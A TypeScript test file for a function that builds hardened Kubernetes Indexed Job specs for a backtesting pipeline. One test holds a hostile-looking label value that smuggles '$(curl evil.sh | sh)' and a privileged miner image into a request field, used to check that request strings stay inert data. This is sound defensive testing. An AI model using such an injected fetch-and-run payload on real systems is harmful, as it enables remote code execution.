import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { EXIT } from "../../backtest-job/job/exit-codes.ts";
import type { BacktestRequest } from "../../events/index.ts";
import type { ShardSpec } from "../ports.ts";
import {
  BAD_INPUT_EXIT_CODE,
  BROKER_TOKEN_FILE,
  BROKER_TOKEN_MOUNT,
  buildJobSpec,
  JOB_ENV_NAMES,
  type JobSpecOptions,
  jobDeadlineSeconds,
  jobName,
  MAX_REQUEST_ENV_BYTES,
} from "./job-spec.ts";
import { SIZE_CLASSES } from "./size-classes.ts";

const RUN_ID = `run_${"a".repeat(13)}${"2".repeat(13)}`;
const REQUEST: BacktestRequest = {
  strategy: "sma-crossover",
  params: { fast: [5, 10], slow: 20 },
  data: { synthetic: { bars: 100, seed: 1 } },
  sort: "sharpeRatio",
};
const OPTIONS: JobSpecOptions = {
  image: "registry.example/zixly/backtest-job@sha256:abc",
  namespace: "pipelines",
  parallelism: 4,
  backoffLimitPerIndex: 1,
  deadlineSeconds: 600,
  ttlSecondsAfterFinished: 3600,
  sinkUrl: "http://broker-ingress.knative-eventing.svc/pipelines/default",
  jobWorkers: 2,
  dataDir: "/data",
  fetchMaxBytes: 1_048_576,
  fetchTimeoutMs: 30_000,
  serviceAccountName: "zixly-backtest-job",
};
const TRACEPARENT = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01";

function shards(count: number, request = REQUEST, runId = RUN_ID, traceparent?: string) {
  return Array.from(
    { length: count },
    (_, shardIndex): ShardSpec => ({ runId, shardIndex, shardCount: count, request, traceparent }),
  );
}

const envOf = (job: ReturnType<typeof buildJobSpec>) =>
  Object.fromEntries(
    job.spec!.template.spec!.containers[0].env!.map((e) => [e.name, e.value] as const),
  );

describe("buildJobSpec", () => {
  it("builds the whole Indexed Job of a run", () => {
    const labels = {
      "app.kubernetes.io/name": "backtest-job",
      "app.kubernetes.io/part-of": "zixly-pipelines",
      "app.kubernetes.io/managed-by": "zixly-dispatch",
      "app.kubernetes.io/component": "backtest",
      "zixly.com/run-id": RUN_ID,
    };
    expect(buildJobSpec(RUN_ID, shards(6, REQUEST, RUN_ID, TRACEPARENT), OPTIONS)).toStrictEqual({
      apiVersion: "batch/v1",
      kind: "Job",
      metadata: { name: `bt-${"a".repeat(13)}${"2".repeat(13)}`, namespace: "pipelines", labels },
      spec: {
        completionMode: "Indexed",
        completions: 6,
        parallelism: 4,
        backoffLimitPerIndex: 1,
        maxFailedIndexes: 0,
        podFailurePolicy: {
          rules: [
            { action: "Ignore", onPodConditions: [{ type: "DisruptionTarget", status: "True" }] },
            {
              action: "FailIndex",
              onExitCodes: { containerName: "backtest", operator: "In", values: [2] },
            },
          ],
        },
        activeDeadlineSeconds: 1200,
        ttlSecondsAfterFinished: 3600,
        template: {
          metadata: { labels },
          spec: {
            restartPolicy: "Never",
            automountServiceAccountToken: false,
            serviceAccountName: "zixly-backtest-job",
            enableServiceLinks: false,
            securityContext: {
              runAsNonRoot: true,
              runAsUser: 10001,
              runAsGroup: 10001,
              fsGroup: 10001,
              seccompProfile: { type: "RuntimeDefault" },
            },
            containers: [
              {
                name: "backtest",
                image: OPTIONS.image,
                env: [
                  { name: "RUN_ID", value: RUN_ID },
                  { name: "SHARD_COUNT", value: "6" },
                  { name: "K_SINK", value: OPTIONS.sinkUrl },
                  { name: "REQUEST", value: JSON.stringify(REQUEST) },
                  { name: "TRACEPARENT", value: TRACEPARENT },
                  { name: "DATA_DIR", value: "/data" },
                  { name: "JOB_WORKERS", value: "2" },
                  { name: "FETCH_MAX_BYTES", value: "1048576" },
                  { name: "FETCH_TIMEOUT_MS", value: "30000" },
                  { name: "ALLOW_INSECURE_URLS", value: "false" },
                ],
                resources: {
                  requests: { cpu: "250m", memory: "256Mi", "ephemeral-storage": "64Mi" },
                  limits: { cpu: "1", memory: "512Mi", "ephemeral-storage": "512Mi" },
                },
                securityContext: {
                  allowPrivilegeEscalation: false,
                  readOnlyRootFilesystem: true,
                  runAsNonRoot: true,
                  capabilities: { drop: ["ALL"] },
                },
                volumeMounts: [{ name: "tmp", mountPath: "/tmp" }],
              },
            ],
            volumes: [{ name: "tmp", emptyDir: { sizeLimit: "256Mi" } }],
          },
        },
      },
    });
  });

  it("names a valid DNS-1123 label for any run id, with room for the pod hostname", () => {
    const base32 = fc.constantFrom(..."abcdefghijklmnopqrstuvwxyz234567");
    fc.assert(
      fc.property(fc.string({ unit: base32, minLength: 26, maxLength: 26 }), (chars) => {
        const name = jobName(`run_${chars}`);
        expect(name).toMatch(/^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/);
        // Pods of an Indexed Job are named `<job>-<index>`, which must stay a label too.
        expect(`${name}-1023`.length).toBeLessThanOrEqual(63);
        expect(
          buildJobSpec(`run_${chars}`, shards(1, REQUEST, `run_${chars}`), OPTIONS).metadata,
        ).toMatchObject({ name, labels: { "zixly.com/run-id": `run_${chars}` } });
      }),
      { numRuns: 500 },
    );
  });

  it("refuses what is not a run id", () => {
    for (const bad of [
      "",
      "run_short",
      `RUN_${"a".repeat(26)}`,
      `run_${"a".repeat(25)}1`,
      "../x",
    ]) {
      expect(() => jobName(bad)).toThrow(TypeError);
    }
  });

  it("passes exactly the env contract, and lets Kubernetes set JOB_COMPLETION_INDEX", () => {
    const withTrace = buildJobSpec(RUN_ID, shards(2, REQUEST, RUN_ID, TRACEPARENT), OPTIONS);
    expect(Object.keys(envOf(withTrace))).toEqual([...JOB_ENV_NAMES]);
    expect(envOf(withTrace)).not.toHaveProperty("JOB_COMPLETION_INDEX");
    const withoutTrace = buildJobSpec(RUN_ID, shards(2), OPTIONS);
    expect(Object.keys(envOf(withoutTrace))).toEqual(
      JOB_ENV_NAMES.filter((n) => n !== "TRACEPARENT"),
    );
  });

  it("passes the OTLP collector to the pods only when tracing is on", () => {
    const traced = buildJobSpec(RUN_ID, shards(2), {
      ...OPTIONS,
      otlpEndpoint: "http://collector:4318",
    });
    expect(envOf(traced).OTEL_EXPORTER_OTLP_ENDPOINT).toBe("http://collector:4318");
    expect(envOf(buildJobSpec(RUN_ID, shards(2), OPTIONS))).not.toHaveProperty(
      "OTEL_EXPORTER_OTLP_ENDPOINT",
    );
  });

  it("passes ALLOW_INSECURE_URLS as the launcher's config says, false by default", () => {
    expect(envOf(buildJobSpec(RUN_ID, shards(1), OPTIONS)).ALLOW_INSECURE_URLS).toBe("false");
    const loose = buildJobSpec(RUN_ID, shards(1), { ...OPTIONS, allowInsecureUrls: true });
    expect(envOf(loose).ALLOW_INSECURE_URLS).toBe("true");
  });

  it("gives the pods a projected broker token of their own only when an audience is set", () => {
    const job = buildJobSpec(RUN_ID, shards(2), {
      ...OPTIONS,
      sinkTokenAudience: "eventing.knative.dev/broker/pipelines/default",
    });
    const pod = job.spec!.template.spec!;
    // Explicit, for the broker only: the API token stays unmounted.
    expect(pod.automountServiceAccountToken).toBe(false);
    expect(pod.volumes).toContainEqual({
      name: "broker-token",
      projected: {
        sources: [
          {
            serviceAccountToken: {
              audience: "eventing.knative.dev/broker/pipelines/default",
              expirationSeconds: 3600,
              path: "token",
            },
          },
        ],
      },
    });
    expect(pod.containers[0].volumeMounts).toContainEqual({
      name: "broker-token",
      mountPath: BROKER_TOKEN_MOUNT,
      readOnly: true,
    });
    expect(envOf(job).K_SINK_TOKEN_FILE).toBe(`${BROKER_TOKEN_MOUNT}/token`);
    expect(BROKER_TOKEN_FILE).toBe(`${BROKER_TOKEN_MOUNT}/token`);

    for (const sinkTokenAudience of [undefined, ""]) {
      const plain = buildJobSpec(RUN_ID, shards(2), { ...OPTIONS, sinkTokenAudience });
      const plainPod = plain.spec!.template.spec!;
      expect(plainPod.volumes?.map((v) => v.name)).toEqual(["tmp"]);
      expect(plainPod.containers[0].volumeMounts?.map((m) => m.name)).toEqual(["tmp"]);
      expect(envOf(plain)).not.toHaveProperty("K_SINK_TOKEN_FILE");
    }
  });

  it("mounts a data claim read-only and points DATA_DIR at it, only when one is configured", () => {
    const job = buildJobSpec(RUN_ID, shards(2), { ...OPTIONS, dataClaim: "zixly-data" });
    const pod = job.spec!.template.spec!;
    expect(pod.volumes).toContainEqual({
      name: "data",
      persistentVolumeClaim: { claimName: "zixly-data", readOnly: true },
    });
    expect(pod.containers[0].volumeMounts).toContainEqual({
      name: "data",
      mountPath: "/data",
      readOnly: true,
    });
    expect(envOf(job).DATA_DIR).toBe("/data");
    const plain = buildJobSpec(RUN_ID, shards(2), OPTIONS).spec!.template.spec!;
    expect(plain.volumes?.map((v) => v.name)).toEqual(["tmp"]);
    expect(envOf(buildJobSpec(RUN_ID, shards(2), OPTIONS)).DATA_DIR).toBe(OPTIONS.dataDir);
  });

  it("keeps a request's strings as data: the image, command and env names are the operator's", () => {
    const sly: BacktestRequest = {
      ...REQUEST,
      label: '"; image: evil/miner --privileged $(curl evil.sh | sh)',
      callbackUrl: "https://example.com/cb?image=evil/miner&command=sh",
      data: { csv: "time,open,high,low,close\nimage: evil\n\u0000\u001b[31m" },
    };
    const job = buildJobSpec(RUN_ID, shards(3, sly), OPTIONS);
    const [container] = job.spec!.template.spec!.containers;
    expect(container.image).toBe(OPTIONS.image);
    expect(container).not.toHaveProperty("command");
    expect(container).not.toHaveProperty("args");
    expect(container.env!.map((e) => e.name)).toEqual(
      JOB_ENV_NAMES.filter((n) => n !== "TRACEPARENT"),
    );
    expect(JSON.parse(envOf(job).REQUEST!)).toEqual(sly);
  });

  it.each(Object.keys(SIZE_CLASSES) as (keyof typeof SIZE_CLASSES)[])(
    "gives size %s its resources",
    (size) => {
      const job = buildJobSpec(RUN_ID, shards(1, { ...REQUEST, size }), OPTIONS);
      const { resources } = job.spec!.template.spec!.containers[0];
      expect(resources).toEqual({
        requests: { ...SIZE_CLASSES[size].requests, "ephemeral-storage": "64Mi" },
        limits: { ...SIZE_CLASSES[size].limits, "ephemeral-storage": "512Mi" },
      });
    },
  );

  it("caps parallelism at the shard count and gives each wave of pods a deadline", () => {
    const two = buildJobSpec(RUN_ID, shards(2), OPTIONS).spec!;
    expect([two.completions, two.parallelism, two.activeDeadlineSeconds]).toEqual([2, 2, 600]);
    const nine = buildJobSpec(RUN_ID, shards(9), OPTIONS).spec!;
    expect([nine.completions, nine.parallelism, nine.activeDeadlineSeconds]).toEqual([9, 4, 1800]);
    expect(jobDeadlineSeconds(600, 10, 4)).toBe(1800);
    expect(jobDeadlineSeconds(30, 1, 1000)).toBe(30);
  });

  it("opts into Kueue with the queue label and suspend, and into neither without a queue", () => {
    const queued = buildJobSpec(RUN_ID, shards(2), { ...OPTIONS, kueueQueue: "backtests" });
    expect(queued.metadata!.labels).toMatchObject({ "kueue.x-k8s.io/queue-name": "backtests" });
    expect(queued.spec!.suspend).toBe(true);
    expect(queued.spec!.template.metadata!.labels).not.toHaveProperty("kueue.x-k8s.io/queue-name");

    for (const kueueQueue of [undefined, ""]) {
      const plain = buildJobSpec(RUN_ID, shards(2), { ...OPTIONS, kueueQueue });
      expect(plain.metadata!.labels).not.toHaveProperty("kueue.x-k8s.io/queue-name");
      expect(plain.spec).not.toHaveProperty("suspend");
    }
  });

  it("refuses shards that are not all of one run's", () => {
    expect(() => buildJobSpec(RUN_ID, [], OPTIONS)).toThrow(/no shards/);
    const other = `run_${"b".repeat(26)}`;
    expect(() => buildJobSpec(RUN_ID, shards(2, REQUEST, other), OPTIONS)).toThrow(/belongs to/);
    expect(() => buildJobSpec(RUN_ID, shards(3).slice(1), OPTIONS)).toThrow(/expected 0 of 2/);
    const mixed = [...shards(2)];
    mixed[1] = { ...mixed[1], request: { ...REQUEST, strategy: "other" } };
    expect(() => buildJobSpec(RUN_ID, mixed, OPTIONS)).toThrow(/different request/);
  });

  it("refuses a request too large for an environment variable", () => {
    // Control characters are escaped as \u00XX: six bytes of JSON for one of CSV.
    const huge = { ...REQUEST, data: { csv: "\u0001".repeat(40 * 1024) } };
    expect(JSON.stringify(huge).length).toBeGreaterThan(MAX_REQUEST_ENV_BYTES);
    expect(() => buildJobSpec(RUN_ID, shards(1, huge), OPTIONS)).toThrow(RangeError);
  });

  it("fails the index on the Job's own bad-input exit code", () => {
    expect(BAD_INPUT_EXIT_CODE).toBe(EXIT.badInput);
  });
});
